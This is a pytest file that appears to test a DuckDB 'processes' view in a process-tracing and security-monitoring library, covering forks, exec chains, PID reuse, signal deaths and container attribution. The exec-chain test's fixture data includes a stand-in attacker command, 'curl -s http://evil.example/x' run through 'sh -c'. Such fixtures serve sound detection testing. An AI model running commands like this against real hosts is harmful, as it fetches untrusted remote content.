"""The ``processes`` view: one row per process lifetime, built from ``events`` only."""

from __future__ import annotations

from typing import Any

import duckdb

from tests.query.conftest import CONTAINER, NGINX, Recorder, Scenario, at
from tracee_py.query import PROCESS_COLUMNS, install_derived_views, open_dataset
from tracee_py.store.rows import events_from_rows


def processes(con: duckdb.DuckDBPyConnection) -> dict[int, dict[str, Any]]:
    cur = con.execute(
        "SELECT *, epoch_ns(start_time) AS s, epoch_ns(exit_time) AS e FROM processes"
    )
    names = [d[0] for d in cur.description]
    return {row[2]: dict(zip(names, row, strict=True)) for row in cur.fetchall()}


def test_columns_are_the_contract(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        names = [d[0] for d in ds.con.execute("SELECT * FROM processes LIMIT 0").description]
    assert tuple(names) == PROCESS_COLUMNS


def test_one_row_per_process_with_its_source(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        rows = processes(ds.con)
    assert set(rows) == set(scenario.ids.values())
    sources = {name: rows[pid]["source"] for name, pid in scenario.ids.items()}
    assert sources == {
        "alpha:init": "snapshot", "alpha:sshd": "snapshot", "alpha:bash": "snapshot",
        "alpha:shim": "snapshot", "alpha:curl": "fork", "alpha:python": "fork",
        "alpha:agent": "fork", "alpha:ls": "fork", "alpha:cat": "fork",
        "alpha:ghost": "inferred", "alpha:sleep": "fork", "alpha:nginx": "fork",
        "alpha:worker": "fork", "beta:init": "snapshot", "beta:bash": "snapshot",
        "beta:curl": "fork",
    }  # fmt: skip


def test_exec_chain_keeps_identity_and_skips_the_failed_exec(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        curl = processes(ds.con)[scenario.id("alpha:curl")]
    assert curl["pid"] == 300
    assert curl["parent_process_id"] == scenario.id("alpha:bash")
    assert curl["exe"] == "/usr/bin/curl"
    assert curl["comm"] == "curl"
    assert curl["argv"] == ["curl", "-s", "http://evil.example/x"]
    assert [(e["path"], e["argv"], e["exe_sha256"], e["retval"]) for e in curl["execs"]] == [
        ("/bin/sh", ["sh", "-c", "exec curl -s http://evil.example/x"], "sha-sh", 0),
        ("/usr/bin/curl", ["curl", "-s", "http://evil.example/x"], "sha-curl", 0),
    ]
    assert curl["s"] == at(1)
    assert curl["e"] == at(2)
    assert (curl["exit_code"], curl["exit_signal"]) == (0, None)


def test_orphan_keeps_the_parent_that_forked_it(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        agent = processes(ds.con)[scenario.id("alpha:agent")]
        later_ppids = ds.con.execute(
            "SELECT DISTINCT ppid FROM events WHERE process_id = ? AND time > ?::TIMESTAMPTZ_NS",
            [scenario.id("alpha:agent"), "2026-03-14 10:00:05+00"],
        ).fetchall()
    assert later_ppids == [(1,)]  # the events say init ...
    assert (agent["ppid"], agent["parent_process_id"]) == (301, scenario.id("alpha:python"))
    assert agent["exit_time"] is None


def test_pid_reuse_gives_two_processes(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        rows = ds.con.execute(
            "SELECT exe, epoch_ns(start_time), epoch_ns(exit_time), exit_code FROM processes "
            "WHERE node = 'alpha' AND pid = 400 ORDER BY start_time"
        ).fetchall()
    assert rows == [("/usr/bin/ls", at(5), at(5.5), 0), ("/usr/bin/cat", at(20), at(21), 1)]


def test_signal_death_inferred_process_and_snapshot(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        rows = processes(ds.con)
    sleep = rows[scenario.id("alpha:sleep")]
    assert (sleep["exit_code"], sleep["exit_signal"]) == (-9, 9)
    ghost = rows[scenario.id("alpha:ghost")]
    assert (ghost["pid"], ghost["ppid"], ghost["parent_process_id"]) == (
        500,
        200,
        scenario.id("alpha:bash"),
    )
    assert (ghost["exe"], ghost["uid"], ghost["s"], ghost["execs"]) == (
        "/usr/bin/ghost",
        1000,
        at(6),
        [],
    )
    bash = rows[scenario.id("alpha:bash")]
    assert (bash["exe"], bash["argv"], bash["uid"], bash["parent_process_id"]) == (
        "/usr/bin/bash",
        ["-bash"],
        1000,
        scenario.id("alpha:sshd"),
    )
    assert bash["s"] == at(-600)


def test_container_comes_from_the_exec_after_joining(scenario: Scenario) -> None:
    with open_dataset(scenario.root) as ds:
        rows = processes(ds.con)
    nginx, worker = rows[scenario.id("alpha:nginx")], rows[scenario.id("alpha:worker")]
    for p in (nginx, worker):
        assert (p["container_id"], p["container_name"], p["container_image"]) == (
            CONTAINER,
            "web",
            "nginx:1.27",
        )
        assert (p["pod_name"], p["pod_namespace"], p["pod_uid"]) == ("web-1", "prod", "pod-uid-1")
    assert nginx["exe"] == NGINX
    assert worker["exe"] == NGINX and worker["source"] == "fork" and worker["execs"] == []
    assert rows[scenario.id("alpha:shim")]["container_id"] is None


def test_install_derived_views_on_a_registered_arrow_table() -> None:
    """The signature engine's path: ``events`` is an Arrow table, not Parquet."""
    rec = Recorder("n1", "boot-1")
    rec.snapshot("init", 1, None, "/sbin/init", ["/sbin/init"], at(-10))
    rec.fork("child", at(1), 42, "init")
    rec.exec("child", at(1.5), "/usr/bin/id", ["id", "-u"])
    rec.exit("child", at(2), code=3)
    con = duckdb.connect()
    con.register("events", events_from_rows(rec.rows))
    install_derived_views(con)
    rows = con.execute(
        "SELECT pid, ppid, exe, argv, exit_code, source, len(execs) FROM processes ORDER BY pid"
    ).fetchall()
    assert rows == [
        (1, 0, "/sbin/init", ["/sbin/init"], None, "snapshot", 0),
        (42, 1, "/usr/bin/id", ["id", "-u"], 3, "fork", 1),
    ]


def test_fork_wins_over_a_later_snapshot_of_the_same_process() -> None:
    """A recorder restarted on the same boot snapshots a process it saw forked: the fork
    row keeps the true parent even if the process was reparented since."""
    rec = Recorder("n1", "boot-1")
    rec.snapshot("init", 1, None, "/sbin/init", ["/sbin/init"], at(-10))
    rec.snapshot("sh", 10, "init", "/bin/sh", ["sh"], at(-5))
    rec.fork("child", at(1), 42, "sh")
    rec.reparent("child", "init")
    init = rec.procs["init"]
    rec.rows.append(
        {
            **rec.rows[-1],
            "event": "process_snapshot",
            "time": at(100),
            "start_time": at(1),
            "argv": ["child"],
            "ppid": init.pid,
            "parent_process_id": init.process_id,
        }
    )
    con = duckdb.connect()
    con.register("events", events_from_rows(rec.rows))
    install_derived_views(con)
    assert con.execute("SELECT ppid, source FROM processes WHERE pid = 42").fetchall() == [
        (10, "fork")
    ]
